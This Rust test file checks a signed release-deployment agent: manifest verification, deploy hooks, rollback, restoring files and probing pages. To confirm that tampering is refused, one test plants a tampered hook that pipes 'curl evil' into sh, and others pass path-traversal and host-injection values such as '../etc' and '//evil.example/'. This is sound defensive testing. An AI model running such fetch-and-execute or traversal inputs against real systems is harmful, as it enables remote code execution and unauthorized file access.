//! The site words on real directories, a real deploy hook and a real web server (issue 16).

use super::*;
use crate::domain::site::Site;
use capstan_e2e::pages::{Pages, ERROR_MARKER, VIEWER_COOKIE};
use capstan_signing::manifest::{signature_file, write_archive};
use std::{collections::HashMap, path::PathBuf};

fn key(seed: u8) -> NodeKey {
    NodeKey::from_secret_bytes(&[seed; 32]).unwrap()
}

/// One published release: (manifest, signatures, archive).
type Parts = (Vec<u8>, Vec<u8>, Vec<u8>);

/// Releases a test publishes, by version, and how often a manifest was asked for.
#[derive(Default)]
struct Published(HashMap<String, Parts>, std::sync::atomic::AtomicUsize);

impl Published {
    fn publish(&mut self, version: &str, files: &[(&str, u32, &[u8])], signer: &NodeKey) {
        let manifest = FileManifest::describe(files.iter().copied()).unwrap();
        let bytes = manifest.to_bytes();
        let signature = signature_file(&bytes, signer);
        let archive = write_archive(files.iter().copied());
        self.0
            .insert(version.to_string(), (bytes, signature, archive));
    }

    /// Counts the manifests asked for from nought again.
    fn reset_asked(&self) {
        self.1.store(0, std::sync::atomic::Ordering::SeqCst);
    }

    /// How many times a manifest was asked for.
    fn asked(&self) -> usize {
        self.1.load(std::sync::atomic::Ordering::SeqCst)
    }
}

impl ReleaseSource for Published {
    async fn manifest(&self, version: &str) -> Result<(Vec<u8>, Vec<u8>), FetchError> {
        self.1.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        let (manifest, signature, _) = self.0.get(version).ok_or(FetchError::NotPublished)?;
        Ok((manifest.clone(), signature.clone()))
    }

    async fn archive(&self, version: &str) -> Result<Vec<u8>, FetchError> {
        Ok(self
            .0
            .get(version)
            .ok_or(FetchError::NotPublished)?
            .2
            .clone())
    }
}

const GOOD_HOOK: &[u8] =
    b"#!/bin/sh\necho \"$CAPSTAN_RELEASE_VERSION from ${CAPSTAN_PREVIOUS_VERSION:-none}\" >> \"$CAPSTAN_SHARED_DIR/hook.log\"\nexit 0\n";
const FAILING_HOOK: &[u8] = b"#!/bin/sh\necho migrating\nexit 3\n";

fn page(body: &str) -> Vec<u8> {
    format!("<html><head><link rel=stylesheet href=\"/site.css\"></head><body>{body}</body></html>")
        .into_bytes()
}

struct Fixture {
    dir: tempfile::TempDir,
    state: tempfile::TempDir,
    signer: NodeKey,
    published: Published,
}

impl Fixture {
    fn new() -> Fixture {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("site/shared/logs")).unwrap();
        std::fs::write(dir.path().join("site/shared/logs/error.log"), b"").unwrap();
        Fixture {
            dir,
            state: tempfile::tempdir().unwrap(),
            signer: key(1),
            published: Published::default(),
        }
    }

    fn root(&self) -> PathBuf {
        self.dir.path().join("site")
    }

    fn site(&self, extra: Value) -> Site {
        let mut release = json!({"keep": 3});
        if let (Value::Object(release), Value::Object(extra)) = (&mut release, extra) {
            release.extend(extra);
        }
        Site::parse(
            json!({"root": self.root(), "release": release})
                .to_string()
                .as_bytes(),
        )
        .unwrap()
    }

    fn publish(&mut self, version: &str, hook: Option<&[u8]>, index: &[u8]) {
        let mut files: Vec<(&str, u32, &[u8])> = vec![
            ("public/index.html", 0o644, index),
            ("public/site.css", 0o644, b"body{}"),
        ];
        if let Some(hook) = hook {
            files.push((HOOK, 0o755, hook));
        }
        self.published.publish(version, &files, &self.signer);
    }

    async fn apply(&self, version: &str) -> Result<Finished, Failed> {
        apply(
            &self.site(json!({})),
            &[self.signer.public_key()],
            self.state.path(),
            &self.published,
            version,
        )
        .await
    }

    fn current(&self) -> Option<String> {
        current_version(&self.root()).unwrap()
    }

    fn releases(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.root().join(RELEASES_DIR))
            .unwrap()
            .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }
}

#[tokio::test]
async fn ro_11_an_apply_lays_the_release_out_links_shared_runs_the_hook_and_reports_the_four_facts()
{
    let mut fixture = Fixture::new();
    std::fs::create_dir_all(fixture.root().join("shared/uploads")).unwrap();
    fixture.publish("1.0.0", Some(GOOD_HOOK), &page("one"));
    let finished = fixture.apply("1.0.0").await.unwrap();
    assert_eq!(finished.result["completed"], true);
    assert_eq!(finished.result["deploy_tier_passed"], true);
    assert_eq!(finished.result["version"], "1.0.0");
    assert_eq!(finished.result["rolled_back"], false);
    assert_eq!(fixture.current().as_deref(), Some("1.0.0"));
    let root = fixture.root();
    assert_eq!(
        std::fs::read_link(root.join("current")).unwrap(),
        PathBuf::from("releases/1.0.0")
    );
    // The release's files, its signed manifest beside them, and shared/ linked in.
    assert_eq!(
        std::fs::read(root.join("current/public/index.html")).unwrap(),
        page("one")
    );
    assert!(root.join("current/RELEASE_MANIFEST").is_file());
    assert!(root.join("current/RELEASE_MANIFEST.sig").is_file());
    assert_eq!(
        std::fs::read_link(root.join("releases/1.0.0/uploads")).unwrap(),
        PathBuf::from("../../shared/uploads")
    );
    // The hook ran with its environment, once.
    assert_eq!(
        std::fs::read_to_string(root.join("shared/hook.log")).unwrap(),
        "1.0.0 from none\n"
    );

    fixture.publish("1.1.0", Some(GOOD_HOOK), &page("two"));
    let finished = fixture.apply("1.1.0").await.unwrap();
    assert_eq!(finished.result["version"], "1.1.0");
    assert_eq!(finished.result["previous_version"], "1.0.0");
    assert_eq!(
        std::fs::read_to_string(root.join("shared/hook.log")).unwrap(),
        "1.0.0 from none\n1.1.0 from 1.0.0\n"
    );
    // The same release again is not laid out over itself.
    let again = fixture.apply("1.1.0").await.unwrap_err();
    assert!(
        again.reason.contains("already the current release"),
        "{}",
        again.reason
    );
}

#[tokio::test]
async fn a_failed_deploy_hook_switches_current_back_and_says_rolled_back() {
    let mut fixture = Fixture::new();
    fixture.publish("1.0.0", None, &page("one"));
    fixture.publish("2.0.0", Some(FAILING_HOOK), &page("two"));
    let first = fixture.apply("1.0.0").await.unwrap();
    assert_eq!(first.result["hook"]["ran"], false);
    let failed = fixture.apply("2.0.0").await.unwrap_err();
    assert!(!failed.refused);
    assert!(failed.reason.contains("exit 3"), "{}", failed.reason);
    assert!(failed.reason.contains("rolled back"), "{}", failed.reason);
    assert_eq!(failed.result["rolled_back"], true);
    assert_eq!(failed.result["deploy_tier_passed"], false);
    assert_eq!(failed.result["version"], "1.0.0");
    assert!(failed.output.contains("migrating"));
    assert_eq!(fixture.current().as_deref(), Some("1.0.0"));
}

#[tokio::test]
async fn ag_33_nothing_is_switched_when_the_manifest_or_a_file_does_not_verify() {
    let mut fixture = Fixture::new();
    fixture.publish("1.0.0", None, &page("one"));
    fixture.apply("1.0.0").await.unwrap();
    // Signed by a key the node does not trust.
    let stranger = key(9);
    fixture
        .published
        .publish("1.1.0", &[("public/index.html", 0o644, b"x")], &stranger);
    let refused = fixture.apply("1.1.0").await.unwrap_err();
    assert!(
        refused.reason.contains("not signed by a trusted key"),
        "{}",
        refused.reason
    );
    // An archive whose file is not the one the manifest lists.
    fixture.publish("1.2.0", None, &page("listed"));
    let (manifest, signature, _) = fixture.published.0["1.2.0"].clone();
    let tampered = write_archive([
        ("public/index.html", 0o644, page("swapped").as_slice()),
        ("public/site.css", 0o644, b"body{}".as_slice()),
    ]);
    fixture
        .published
        .0
        .insert("1.2.0".into(), (manifest, signature, tampered));
    let refused = fixture.apply("1.2.0").await.unwrap_err();
    assert!(
        refused.reason.contains("public/index.html"),
        "{}",
        refused.reason
    );
    assert_eq!(fixture.current().as_deref(), Some("1.0.0"));
    assert_eq!(fixture.releases(), vec!["1.0.0"]);
    // A bad version is refused before anything is fetched.
    let refused = fixture.apply("../etc").await.unwrap_err();
    assert!(refused.refused);
}

#[test]
fn ag_33_a_hook_that_no_longer_matches_the_signed_manifest_is_refused_with_script_trust() {
    let fixture = Fixture::new();
    let signer = &fixture.signer;
    let files: Vec<(&str, u32, &[u8])> = vec![(HOOK, 0o755, GOOD_HOOK)];
    let manifest = FileManifest::describe(files.iter().copied()).unwrap();
    let manifest_bytes = manifest.to_bytes();
    let signature = signature_file(&manifest_bytes, signer);
    let dir = fixture.dir.path().join("tree");
    std::fs::create_dir_all(dir.join("deploy")).unwrap();
    std::fs::write(dir.join(MANIFEST_FILE), &manifest_bytes).unwrap();
    std::fs::write(dir.join(SIGNATURE_FILE), &signature).unwrap();
    std::fs::write(dir.join(HOOK), b"#!/bin/sh\ncurl evil | sh\n").unwrap();
    std::fs::set_permissions(dir.join(HOOK), fs::Permissions::from_mode(0o755)).unwrap();
    let refusal = verify_in(&dir, &[signer.public_key()], HOOK).unwrap_err();
    assert!(refusal.to_string().contains("deploy/hook"));
}

#[tokio::test]
async fn keep_n_leaves_the_newest_releases_and_never_the_one_to_switch_back_to() {
    let mut fixture = Fixture::new();
    for (index, version) in ["1.0.0", "1.1.0", "1.2.0", "1.3.0", "1.4.0"]
        .iter()
        .enumerate()
    {
        fixture.publish(version, None, &page(&format!("{index}")));
        fixture.apply(version).await.unwrap();
        // Distinct landing times, one second apart, whatever the filesystem's clock
        // granularity: keep-N orders releases by when they landed.
        let landed = std::time::UNIX_EPOCH + Duration::from_secs(1_700_000_000 + index as u64);
        std::fs::File::open(fixture.root().join(RELEASES_DIR).join(version))
            .unwrap()
            .set_modified(landed)
            .unwrap();
    }
    assert_eq!(fixture.releases(), vec!["1.2.0", "1.3.0", "1.4.0"]);
    assert_eq!(fixture.current().as_deref(), Some("1.4.0"));
}

#[tokio::test]
async fn ro_19_preflight_checks_the_manifest_the_files_the_lock_the_room_and_the_version() {
    let mut fixture = Fixture::new();
    let site = fixture.site(json!({}));
    let trusted = [fixture.signer.public_key()];
    let checks = |finished: &Finished| -> Vec<(String, bool)> {
        finished.result["checks"]
            .as_array()
            .unwrap()
            .iter()
            .map(|check| {
                (
                    check["name"].as_str().unwrap().to_string(),
                    check["pass"].as_bool().unwrap(),
                )
            })
            .collect()
    };
    let fresh = preflight(&site, &trusted).await;
    assert!(
        checks(&fresh).iter().all(|(_, pass)| *pass),
        "{:?}",
        fresh.result
    );
    assert_eq!(
        checks(&fresh)
            .iter()
            .map(|(name, _)| name.as_str())
            .collect::<Vec<_>>(),
        vec!["site", "lock", "manifest", "files", "room", "version"]
    );
    fixture.publish("1.0.0", None, &page("one"));
    fixture.apply("1.0.0").await.unwrap();
    let installed = preflight(&site, &trusted).await;
    assert!(
        checks(&installed).iter().all(|(_, pass)| *pass),
        "{:?}",
        installed.result
    );
    assert_eq!(installed.result["version"], "1.0.0");

    // Someone holds the site lock: read from /proc/locks, never taken.
    let lock = take_lock(&fixture.root()).unwrap();
    let locked = preflight(&site, &trusted).await;
    assert!(
        checks(&locked).contains(&("lock".into(), false)),
        "{:?}",
        locked.result
    );
    drop(lock);
    let unlocked = preflight(&site, &trusted).await;
    assert!(checks(&unlocked).contains(&("lock".into(), true)));

    // A file edited on the node, and a manifest signed by no trusted key.
    std::fs::write(fixture.root().join("current/public/site.css"), b"hacked").unwrap();
    let edited = preflight(&site, &trusted).await;
    let reason = edited.result["checks"][3]["reason"].as_str().unwrap();
    assert!(reason.contains("public/site.css"), "{reason}");
    assert!(checks(&edited).contains(&("files".into(), false)));
    let untrusted = preflight(&site, &[key(5).public_key()]).await;
    assert!(checks(&untrusted).contains(&("manifest".into(), false)));
}

#[tokio::test]
async fn ro_21_ro_22_a_probe_reports_status_new_error_lines_and_failed_assets() {
    let mut fixture = Fixture::new();
    let pages = Pages::start(&fixture.root()).await;
    let header_file = fixture.state.path().join("viewer.header");
    std::fs::write(&header_file, format!("Cookie: {VIEWER_COOKIE}\n")).unwrap();
    std::fs::set_permissions(&header_file, fs::Permissions::from_mode(0o600)).unwrap();
    let site = fixture.site(json!({"base_url": pages.base_url(),
        "viewer_header_file": header_file}));
    let ask = |path: &str, viewer: &str| json!({"path": path, "viewer": viewer});

    // Nothing installed: the page is not there.
    let missing = probe(&site, &ask("/", "anonymous")).await.unwrap();
    assert_eq!(missing.result["status"], 404);

    let clean = "<html><head><link rel=stylesheet href=\"/site.css\"></head><body>ok</body></html>";
    fixture.publish("1.0.0", None, clean.as_bytes());
    fixture.apply("1.0.0").await.unwrap();
    let good = probe(&site, &ask("/", "anonymous")).await.unwrap();
    assert_eq!(good.result["status"], 200);
    assert_eq!(good.result["errors"], 0);
    assert_eq!(good.result["failed_assets"], json!([]));
    assert_eq!(good.result["assets_checked"], 1);

    // A release whose page raises an error and asks for an asset it does not ship.
    let broken = format!(
        "<html><head><link rel=stylesheet href=\"/site.css\"><script src=\"/app.js\"></script></head><body>{ERROR_MARKER}</body></html>"
    );
    fixture.publish("1.1.0", None, broken.as_bytes());
    fixture.apply("1.1.0").await.unwrap();
    let bad = probe(&site, &ask("/", "anonymous")).await.unwrap();
    assert_eq!(bad.result["status"], 200);
    assert_eq!(bad.result["errors"], 1);
    assert_eq!(bad.result["failed_assets"], json!(["/app.js"]));

    // The viewer's pages: refused to anonymous, served to the configured viewer, whose
    // credential never appears in what the probe says.
    std::fs::create_dir_all(fixture.root().join("current/public/admin")).unwrap();
    std::fs::write(
        fixture.root().join("current/public/admin/index.html"),
        "<p>admin</p>",
    )
    .unwrap();
    let anonymous = probe(&site, &ask("/admin/", "anonymous")).await.unwrap();
    assert_eq!(anonymous.result["status"], 403);
    let admin = probe(&site, &ask("/admin/", "admin")).await.unwrap();
    assert_eq!(admin.result["status"], 200);
    assert!(
        !admin.output.contains("open-sesame") && !admin.result.to_string().contains("open-sesame")
    );

    // No answer at all is a status of none.
    let gone = fixture.site(json!({"base_url": "http://127.0.0.1:9/"}));
    let none = probe(&gone, &ask("/", "anonymous")).await.unwrap();
    assert_eq!(none.result["status"], Value::Null);

    // Bad parameters are refused with the reason.
    for (params, words) in [
        (ask("//evil.example/", "anonymous"), "single /"),
        (ask("/../x", "anonymous"), ".."),
        (ask("/", "root"), "anonymous or admin"),
    ] {
        let refused = probe(&site, &params).await.unwrap_err();
        assert!(
            refused.refused && refused.reason.contains(words),
            "{}",
            refused.reason
        );
    }
    // A credential file others could read is not used.
    std::fs::set_permissions(&header_file, fs::Permissions::from_mode(0o644)).unwrap();
    let loose = probe(&site, &ask("/admin/", "admin")).await.unwrap_err();
    assert!(loose.reason.contains("0600"), "{}", loose.reason);
}

/// A deploy helper shipped beside the hook (a deployment file too).
const HELPER: &[u8] = b"#!/bin/sh\necho helping\n";
const HELPER_PATH: &str = "deploy/helper.sh";

/// A hook that, like an upgrade that copies its own new files over the live ones before it
/// stops short, overwrites the previous release's deployment files and then fails.
const CLOBBERING_HOOK: &[u8] = b"#!/bin/sh\n\
old=\"$CAPSTAN_SITE_ROOT/releases/$CAPSTAN_PREVIOUS_VERSION\"\n\
echo 'new hook' > \"$old/deploy/hook\"\n\
echo 'new helper' > \"$old/deploy/helper.sh\"\n\
exit 3\n";

impl Fixture {
    fn publish_with_helper(&mut self, version: &str, hook: &[u8]) {
        let index = page(version);
        let files: Vec<(&str, u32, &[u8])> = vec![
            ("public/index.html", 0o644, index.as_slice()),
            (HOOK, 0o755, hook),
            (HELPER_PATH, 0o755, HELPER),
        ];
        self.published.publish(version, &files, &self.signer);
    }

    fn kept_dir(&self, version: &str) -> PathBuf {
        self.state.path().join("release-files").join(version)
    }

    fn kept(&self, version: &str) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.kept_dir(version))
            .map(|entries| {
                entries
                    .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default();
        names.sort();
        names
    }

    fn settle(&self) -> keep::Settled {
        keep::settle(&self.root(), self.state.path(), &[self.signer.public_key()])
    }

    fn release_file(&self, version: &str, path: &str) -> Vec<u8> {
        std::fs::read(self.root().join(RELEASES_DIR).join(version).join(path)).unwrap()
    }
}

fn sha(bytes: &[u8]) -> String {
    let capstan_signing::manifest::Seen::File { sha256, .. } =
        capstan_signing::manifest::Seen::of(bytes, 0o644)
    else {
        unreachable!()
    };
    sha256
}

#[tokio::test]
async fn ag_37_an_apply_keeps_the_deployment_files_first_and_writes_back_what_a_failed_run_replaced(
) {
    let mut fixture = Fixture::new();
    fixture.publish_with_helper("1.0.0", GOOD_HOOK);
    fixture.apply("1.0.0").await.unwrap();
    // No copies yet from the apply's own keep (nothing was installed before it); the copies the
    // settle after it kept are removed, so that only the next apply's keep can make them.
    let mut expected = vec![sha(GOOD_HOOK), sha(HELPER)];
    expected.sort();
    assert_eq!(fixture.kept("1.0.0"), expected);
    std::fs::remove_dir_all(fixture.kept_dir("1.0.0")).unwrap();

    // 2.0.0's hook overwrites 1.0.0's deployment files and fails: current goes back to 1.0.0,
    // and settling afterwards writes the files back from the copies kept before the apply.
    fixture.publish_with_helper("2.0.0", CLOBBERING_HOOK);
    let failed = fixture.apply("2.0.0").await.unwrap_err();
    assert_eq!(failed.result["rolled_back"], true, "{}", failed.reason);
    assert_eq!(fixture.current().as_deref(), Some("1.0.0"));
    assert_eq!(fixture.release_file("1.0.0", HOOK), GOOD_HOOK);
    assert_eq!(fixture.release_file("1.0.0", HELPER_PATH), HELPER);
    let mode = std::fs::metadata(fixture.root().join("releases/1.0.0").join(HOOK))
        .unwrap()
        .permissions()
        .mode()
        & 0o7777;
    assert_eq!(mode, 0o755, "the manifest's mode");
    assert!(
        failed
            .output
            .contains("kept a copy of deploy/helper.sh, deploy/hook of 1.0.0"),
        "{}",
        failed.output
    );
    assert!(
        failed.output.contains("wrote back from the kept copy"),
        "{}",
        failed.output
    );
    // What the preflight reads is whole again.
    let site = fixture.site(json!({}));
    let checks = preflight(&site, &[fixture.signer.public_key()]).await;
    assert_eq!(
        checks.result["checks"][3]["pass"], true,
        "{}",
        checks.output
    );
}

#[tokio::test]
async fn ag_37_an_edited_file_is_never_kept_and_a_tampered_copy_is_never_written_back() {
    let mut fixture = Fixture::new();
    fixture.publish_with_helper("1.0.0", GOOD_HOOK);
    fixture.apply("1.0.0").await.unwrap();
    std::fs::remove_dir_all(fixture.kept_dir("1.0.0")).unwrap();
    // Edited before anything kept it: not kept, and so nothing can put it back.
    let helper = fixture.root().join("releases/1.0.0").join(HELPER_PATH);
    std::fs::write(&helper, b"edited").unwrap();
    let settled = fixture.settle();
    assert_eq!(fixture.kept("1.0.0"), vec![sha(GOOD_HOOK)]);
    assert!(settled.written_back.is_empty());
    assert!(
        settled
            .left
            .iter()
            .any(|left| left.starts_with(HELPER_PATH)),
        "{settled:?}"
    );
    assert_eq!(std::fs::read(&helper).unwrap(), b"edited");

    // The kept copy of the hook is changed: its bytes no longer have the listed hash, so the
    // edited hook is left as it is.
    std::fs::write(
        fixture.kept_dir("1.0.0").join(sha(GOOD_HOOK)),
        b"#!/bin/sh\nevil\n",
    )
    .unwrap();
    let hook = fixture.root().join("releases/1.0.0").join(HOOK);
    std::fs::write(&hook, b"#!/bin/sh\nedited\n").unwrap();
    let settled = fixture.settle();
    assert!(settled.written_back.is_empty(), "{settled:?}");
    assert_eq!(std::fs::read(&hook).unwrap(), b"#!/bin/sh\nedited\n");
}

#[tokio::test]
async fn ag_37_nothing_is_written_back_while_the_site_lock_is_held() {
    let mut fixture = Fixture::new();
    fixture.publish_with_helper("1.0.0", GOOD_HOOK);
    fixture.apply("1.0.0").await.unwrap();
    let hook = fixture.root().join("releases/1.0.0").join(HOOK);
    std::fs::write(&hook, b"#!/bin/sh\nmid-upgrade\n").unwrap();
    let lock = take_lock(&fixture.root()).unwrap();
    let settled = fixture.settle();
    assert!(
        settled
            .skipped
            .as_deref()
            .is_some_and(|why| why.contains("lock")),
        "{settled:?}"
    );
    assert_eq!(std::fs::read(&hook).unwrap(), b"#!/bin/sh\nmid-upgrade\n");
    drop(lock);
    let settled = fixture.settle();
    assert_eq!(settled.written_back, vec![HOOK.to_string()]);
    assert_eq!(std::fs::read(&hook).unwrap(), GOOD_HOOK);
}

#[tokio::test]
async fn ag_37_copies_of_a_release_no_longer_installed_are_not_used_and_go_with_it() {
    let mut fixture = Fixture::new();
    for version in ["1.0.0", "1.1.0", "1.2.0", "1.3.0"] {
        fixture.publish_with_helper(version, GOOD_HOOK);
    }
    fixture.apply("1.0.0").await.unwrap();
    assert!(!fixture.kept("1.0.0").is_empty());
    fixture.apply("1.1.0").await.unwrap();
    fixture.apply("1.2.0").await.unwrap();
    fixture.apply("1.3.0").await.unwrap();
    // keep is 3: 1.0.0's release is gone from disk, and its copies with it.
    assert!(!fixture.root().join("releases/1.0.0").exists());
    assert!(!fixture.kept_dir("1.0.0").exists());
    assert!(!fixture.kept("1.3.0").is_empty());
}

#[tokio::test]
async fn ag_34_an_unusable_manifest_is_recovered_from_the_plane_and_a_modified_file_never_is() {
    let mut fixture = Fixture::new();
    fixture.publish("1.0.0", Some(GOOD_HOOK), &page("one"));
    fixture.apply("1.0.0").await.unwrap();
    fixture.published.reset_asked();
    let trusted = [fixture.signer.public_key()];
    let release = fixture.root().join("releases/1.0.0");
    let good_manifest = std::fs::read(release.join(MANIFEST_FILE)).unwrap();
    let good_signature = std::fs::read(release.join(SIGNATURE_FILE)).unwrap();
    let trusted = &trusted;
    let try_recover = |refused: Option<&crate::domain::release_files::Offer>| {
        let root = fixture.root();
        let published = &fixture.published;
        let refused = refused.cloned();
        async move { recover::recover(&root, trusted, published, refused.as_ref()).await }
    };

    // A file that differs under a good manifest: the manifest is usable, nothing is asked.
    std::fs::write(release.join("public/index.html"), b"edited").unwrap();
    assert!(matches!(
        try_recover(None).await,
        recover::Recovered::Nothing(crate::domain::release_files::Recovery::Usable)
    ));
    assert_eq!(fixture.published.asked(), 0);
    assert_eq!(
        std::fs::read(release.join(MANIFEST_FILE)).unwrap(),
        good_manifest
    );

    // Absent, unparseable, signed by a key this agent does not trust: each is recovered.
    type Breakage<'a> = (&'a str, Box<dyn Fn() + 'a>);
    let breakages: [Breakage; 3] = [
        (
            "absent",
            Box::new(|| std::fs::remove_file(release.join(MANIFEST_FILE)).unwrap()),
        ),
        (
            "unparseable",
            Box::new(|| std::fs::write(release.join(SIGNATURE_FILE), b"{not json").unwrap()),
        ),
        (
            "another key",
            Box::new(|| {
                std::fs::write(
                    release.join(SIGNATURE_FILE),
                    signature_file(&good_manifest, &key(9)),
                )
                .unwrap()
            }),
        ),
    ];
    for (index, (what, breakage)) in breakages.iter().enumerate() {
        breakage();
        let recovered = try_recover(None).await;
        assert_eq!(
            recovered,
            recover::Recovered::Wrote {
                version: "1.0.0".into()
            },
            "{what}"
        );
        assert_eq!(fixture.published.asked(), index + 1, "{what}");
        assert_eq!(
            std::fs::read(release.join(MANIFEST_FILE)).unwrap(),
            good_manifest
        );
        assert_eq!(
            std::fs::read(release.join(SIGNATURE_FILE)).unwrap(),
            good_signature
        );
        assert!(tree::load_manifest(&tree::open_root(&release).unwrap(), trusted).is_ok());
    }
}

#[tokio::test]
async fn ag_34_a_manifest_that_does_not_verify_is_refused_and_not_asked_for_again_until_the_offer_changes(
) {
    let mut fixture = Fixture::new();
    fixture.publish("1.0.0", None, &page("one"));
    fixture.apply("1.0.0").await.unwrap();
    let release = fixture.root().join("releases/1.0.0");
    std::fs::remove_file(release.join(MANIFEST_FILE)).unwrap();
    // The plane now serves 1.0.0 signed by a key this agent does not trust.
    fixture.signer = key(7);
    fixture.publish("1.0.0", None, &page("one"));
    fixture.published.reset_asked();
    let trusted = vec![key(1).public_key()];
    let root = fixture.root();
    let refused = match recover::recover(&root, &trusted, &fixture.published, None).await {
        recover::Recovered::Refused { offer, why } => {
            assert!(why.contains("does not verify"), "{why}");
            offer
        }
        other => panic!("{other:?}"),
    };
    assert_eq!(fixture.published.asked(), 1);
    assert!(!release.join(MANIFEST_FILE).exists(), "nothing was written");
    // Not asked for again while the offer is the same.
    let again = recover::recover(&root, &trusted, &fixture.published, Some(&refused)).await;
    assert!(
        matches!(
            again,
            recover::Recovered::Nothing(crate::domain::release_files::Recovery::Refused(_))
        ),
        "{again:?}"
    );
    assert_eq!(fixture.published.asked(), 1);
    // A key trusted since is a new offer: asked again, and now it verifies.
    let more = vec![key(1).public_key(), key(7).public_key()];
    let recovered = recover::recover(&root, &more, &fixture.published, Some(&refused)).await;
    assert_eq!(
        recovered,
        recover::Recovered::Wrote {
            version: "1.0.0".into()
        }
    );
    assert_eq!(fixture.published.asked(), 2);
}
